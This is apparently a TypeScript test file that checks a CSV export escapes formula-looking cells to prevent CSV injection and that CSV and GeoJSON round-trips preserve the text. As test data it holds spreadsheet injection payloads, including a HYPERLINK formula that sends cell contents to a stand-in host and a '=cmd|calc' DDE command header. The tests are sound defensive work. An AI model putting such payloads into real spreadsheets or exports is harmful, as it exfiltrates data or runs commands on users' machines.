/** CSV injection: the export writes formula-looking cells as text, and importing the export gives back the original text. */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { ImportRecord } from '../../model/types';
import { escapeCell, unescapeCell } from '../csvCells';
import { importFile } from '../importFile';
import { acledCsv, acledRow, testOptions } from '../testFixtures';
import { ACLED_COLUMNS } from '../formats/acledColumns';
import { recordsToCsv } from './toCsv';
import { recordsToGeoJson } from './toGeoJson';

const withoutRow = (rs: readonly ImportRecord[]): Array<Omit<ImportRecord, 'row'>> => rs.map(({ row: _row, ...r }) => r);

const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', "'=already", "''@twice"];

describe('CSV export: formula cells are neutralised', () => {
  it.each([
    ['=1', "'=1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@a', "'@a"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ["'=x", "''=x"],
    ["''+x", "'''+x"],
    ["'plain", "'plain"],
    ['plain = 1', 'plain = 1'],
    ['', ''],
  ])('escapeCell(%j) = %j, and unescapeCell undoes it', (raw, written) => {
    expect(escapeCell(raw)).toBe(written);
    expect(unescapeCell(escapeCell(raw))).toBe(raw);
  });

  it('every text cell and header starting with = + - @, tab or CR is written with an apostrophe, inside quotes', async () => {
    const rows = FORMULAS.map((f, i) =>
      acledRow({ event_id_cnty: `F${i}`, notes: f, source: f, actor1: f, sub_event_type: f, '=cmd|calc': f }),
    );
    const first = await importFile(acledCsv(rows, [...ACLED_COLUMNS, '=cmd|calc']), 'evil.csv', testOptions());
    expect(first.errors).toEqual([]);
    // A CSV cell of apostrophes before = + - @ is read as escaped: one apostrophe goes.
    expect(first.records.map((r) => r.sourceText)).toEqual(FORMULAS.map(unescapeCell));
    const text = recordsToCsv(first.records);
    expect(text).toContain('"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"');
    expect(text).toContain(`"'=cmd|calc"`);
    const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    for (const row of parsed)
      for (const cell of row) {
        expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
      }
  });

  it('importing the export gives back the original text, apostrophes included (CSV), and GeoJSON needs no escaping', async () => {
    // GeoJSON is read as written, so these records hold the texts exactly, leading apostrophes too.
    const features = FORMULAS.map((f, i) => ({
      type: 'Feature',
      geometry: { type: 'Point', coordinates: [71.55, 37.66] },
      properties: { id: `F${i}`, date: '2025-11-30', title: f, notes: f, source: f, actor1: f, [f.replace(/[\t\r]/, '')]: f },
    }));
    const first = await importFile(JSON.stringify({ type: 'FeatureCollection', features }), 'evil.geojson', testOptions());
    expect(first.errors).toEqual([]);
    expect(first.records.map((r) => r.title)).toEqual(FORMULAS);
    const viaCsv = await importFile(recordsToCsv(first.records), 'again.csv', testOptions());
    expect(viaCsv.errors).toEqual([]);
    expect(withoutRow(viaCsv.records)).toEqual(withoutRow(first.records));
    const geo = recordsToGeoJson(first.records);
    expect(geo.features[0]?.properties['notes']).toBe(FORMULAS[0]);
    const viaGeo = await importFile(JSON.stringify(geo), 'again.geojson', testOptions());
    expect(withoutRow(viaGeo.records)).toEqual(withoutRow(first.records));
  });
});
